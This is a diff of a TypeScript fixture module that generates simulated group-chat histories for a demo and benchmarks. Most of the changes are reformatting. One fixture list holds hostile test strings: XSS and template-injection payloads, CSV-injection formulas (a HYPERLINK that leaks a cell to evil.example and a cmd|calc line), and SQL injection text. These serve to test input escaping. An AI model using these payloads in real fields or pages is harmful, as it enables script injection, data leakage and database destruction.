@@ -43,7 +43,6 @@ export const systemSender = '@TIM#SYSTEM'
 // ---------------------------------------------------------------------------------------------
 // PRNG
 
-
 export class Rng {
   private readonly next: () => number
   constructor(seed: number) {
@@ -106,8 +105,20 @@ function image(rng: Rng, opts: { gif?: boolean; zeroSizes?: boolean } = {}): Msg
       ImageFormat: fmt,
       ImageInfoArray: [
         { Type: 1, Size: size, Width: w, Height: h, URL: url(1) },
-        { Type: 2, Size: opts.zeroSizes ? 0 : Math.floor(size / 4), Width: opts.zeroSizes ? 0 : 720, Height: opts.zeroSizes ? 0 : Math.round((720 * h) / w), URL: url(2) },
-        { Type: 3, Size: opts.zeroSizes ? 0 : Math.floor(size / 40), Width: opts.zeroSizes ? 0 : 198, Height: opts.zeroSizes ? 0 : Math.round((198 * h) / w), URL: url(3) }
+        {
+          Type: 2,
+          Size: opts.zeroSizes ? 0 : Math.floor(size / 4),
+          Width: opts.zeroSizes ? 0 : 720,
+          Height: opts.zeroSizes ? 0 : Math.round((720 * h) / w),
+          URL: url(2)
+        },
+        {
+          Type: 3,
+          Size: opts.zeroSizes ? 0 : Math.floor(size / 40),
+          Width: opts.zeroSizes ? 0 : 198,
+          Height: opts.zeroSizes ? 0 : Math.round((198 * h) / w),
+          URL: url(3)
+        }
       ]
     }
   }
@@ -232,7 +243,7 @@ function specialDrafts(rng: Rng, groupId: string): Draft[] {
     { body: [text('<script>alert(1)</script>')] },
     { body: [text('<img src=x onerror=alert(1)>')] },
     { body: [text('Docs: [click here](javascript:alert(1)) or <a href="javascript:alert(1)">this</a> javascript:alert(document.cookie)')] },
-    { body: [text('"><svg/onload=alert(1)>&lt;b&gt;escaped&lt;/b&gt; &amp; {{constructor.constructor(\'alert(1)\')()}} ${7*7}')] },
+    { body: [text("\"><svg/onload=alert(1)>&lt;b&gt;escaped&lt;/b&gt; &amp; {{constructor.constructor('alert(1)')()}} ${7*7}")] },
     // Spreadsheet formulas (CSV injection).
     { body: [text('=HYPERLINK("http://evil.example/?leak="&A1,"Click for bonus")')] },
     { body: [text("+cmd|' /C calc'!A0")] },
@@ -254,7 +265,7 @@ function specialDrafts(rng: Rng, groupId: string): Draft[] {
     { body: [text('line1\nline2\r\nline3\ttabbed \u0000 nul \u001b[31mred\u001b[0m \u0007 bell')] },
     { body: [text('pass\u200Bword \uFEFFbom zero\u200Dwidth \u00A0nbsp')] },
     { body: [text('C:\\Users\\bob\\Desktop\\"quoted" \'single\' `back` \\n not a newline')] },
-    { body: [text("Robert'); DROP TABLE messages;-- and \" OR 1=1 --")] },
+    { body: [text('Robert\'); DROP TABLE messages;-- and " OR 1=1 --')] },
     { body: [text('')] },
     { body: [text('   ')] },
     // Every element type.
@@ -324,7 +335,10 @@ function specialDrafts(rng: Rng, groupId: string): Draft[] {
       from: systemSender,
       isSystem: true,
       priority: 1,
-      body: { MsgType: 'TIMGroupTipElem', MsgContent: { OpType: 'ModifyGroupInfo', Operator_Account: 'administrator', GroupInfo: { Name: '产品研发 Team 🚀' } } }
+      body: {
+        MsgType: 'TIMGroupTipElem',
+        MsgContent: { OpType: 'ModifyGroupInfo', Operator_Account: 'administrator', GroupInfo: { Name: '产品研发 Team 🚀' } }
+      }
     },
     {
       from: systemSender,
@@ -423,14 +437,33 @@ function bigSeqGroup(): SimGroup {
   for (let seq = nextMsgSeq - 1; seq >= floor; seq--) {
     let m: SimMessage
     if (seq === 7803321) {
-      m = { seq, from: '144115197276518801', time: 1458721802, random: 51083293, priority: 1, state: 'normal', body: [custom('\b\u0001\u0010\u0006\u001A\u0006MaoTong', 'MIF', ''), face(15)] }
+      m = {
+        seq,
+        from: '144115197276518801',
+        time: 1458721802,
+        random: 51083293,
+        priority: 1,
+        state: 'normal',
+        body: [custom('\b\u0001\u0010\u0006\u001A\u0006MaoTong', 'MIF', ''), face(15)]
+      }
     } else if (seq === 7803320) {
       t = 1458721797
-      m = { seq, from: '144115198339527735', time: t, random: 235168582, priority: 1, state: 'normal', body: [custom('\b\u0001\u0010\u0006\u001A\u000FWatermelon Girl.', 'MIF', ''), text('Escalate')] }
+      m = {
+        seq,
+        from: '144115198339527735',
+        time: t,
+        random: 235168582,
+        priority: 1,
+        state: 'normal',
+        body: [custom('\b\u0001\u0010\u0006\u001A\u000FWatermelon Girl.', 'MIF', ''), text('Escalate')]
+      }
     } else {
       t -= rng.int(0, 400)
       const r = rng.float()
-      const body = r < 0.7 ? [custom(`\b\u0001\u0010\u0006\u001A\u0006${rng.pick(['MaoTong', 'XiGua', 'LiZi', 'TaoZi'])}`, 'MIF', ''), text(rng.pick(plainTexts))] : [text(rng.pick(plainTexts))]
+      const body =
+        r < 0.7
+          ? [custom(`\b\u0001\u0010\u0006\u001A\u0006${rng.pick(['MaoTong', 'XiGua', 'LiZi', 'TaoZi'])}`, 'MIF', ''), text(rng.pick(plainTexts))]
+          : [text(rng.pick(plainTexts))]
       m = { seq, from: rng.pick(from), time: t, random: rng.uint32(), priority: rng.pick([1, 2, 2, 3]), state: 'normal', body }
       if (seq < expiredBelow) m.state = 'expired'
       else if (rng.chance(0.01)) m.state = 'deleted'
@@ -464,7 +497,24 @@ function smallGroup(seed: number, g: Omit<SimGroup, 'messages' | 'nextMsgSeq'>, 
   return { ...g, nextMsgSeq: count + 1, messages }
 }
 
-const benchWords: readonly string[] = ['sync', 'archive', '消息', 'build', '部署', 'review', 'test', '数据', 'deploy', '群聊', 'ok', '👍', 'release', '会议', 'bug', 'fix']
+const benchWords: readonly string[] = [
+  'sync',
+  'archive',
+  '消息',
+  'build',
+  '部署',
+  'review',
+  'test',
+  '数据',
+  'deploy',
+  '群聊',
+  'ok',
+  '👍',
+  'release',
+  '会议',
+  'bug',
+  'fix'
+]
 
 /** A large Public group for benchmarks. 30 000 messages build in well under a second. */
 export function benchGroup(count = 30000, nowSec = todayUtc()): SimGroup {
@@ -529,10 +579,22 @@ export function demoApp(opts: { benchMessages?: number; now?: number } = {}): Si
       messages: new Map()
     },
     {
-      ...smallGroup(0xd15, { GroupId: demoGroupIds.dismissed, Type: 'Work', Name: 'Old project (dismissed)', Owner_Account: 'bob', CreateTime: now - 200 * 86400, MemberNum: 3 }, 40, now - 199 * 86400, ['bob', 'alice', 'chen_wei']),
+      ...smallGroup(
+        0xd15,
+        { GroupId: demoGroupIds.dismissed, Type: 'Work', Name: 'Old project (dismissed)', Owner_Account: 'bob', CreateTime: now - 200 * 86400, MemberNum: 3 },
+        40,
+        now - 199 * 86400,
+        ['bob', 'alice', 'chen_wei']
+      ),
       dismissed: true
     },
-    smallGroup(0xca11, { GroupId: demoGroupIds.custom, Type: 'ChatRoom', Name: 'On-call 值班', Owner_Account: 'admin2', CreateTime: now - 30 * 86400, MemberNum: 4 }, 25, now - 30 * 86400, ['alice', 'bob', 'admin2', 'fatima']),
+    smallGroup(
+      0xca11,
+      { GroupId: demoGroupIds.custom, Type: 'ChatRoom', Name: 'On-call 值班', Owner_Account: 'admin2', CreateTime: now - 30 * 86400, MemberNum: 4 },
+      25,
+      now - 30 * 86400,
+      ['alice', 'bob', 'admin2', 'fatima']
+    ),
     benchGroup(opts.benchMessages ?? 30000, now)
   ]
   return {
@@ -594,7 +656,10 @@ export function randomHistory(seed: number, opts: RandomHistoryOptions): Pick<Si
         priority: 1,
         isSystem: true,
         state: 'normal',
-        body: rSys < (opts.systemRate ?? 0) / 2 ? { MsgType: 'TIMGroupTipElem', MsgContent: { OpType: 'Join', MemberAccount_List: [rng.pick(who)] } } : [custom('{"businessID":"group_notice"}', 'notice', '')]
+        body:
+          rSys < (opts.systemRate ?? 0) / 2
+            ? { MsgType: 'TIMGroupTipElem', MsgContent: { OpType: 'Join', MemberAccount_List: [rng.pick(who)] } }
+            : [custom('{"businessID":"group_notice"}', 'notice', '')]
       }
     } else {
       const big = rBig < (opts.bigMessageRate ?? 0)
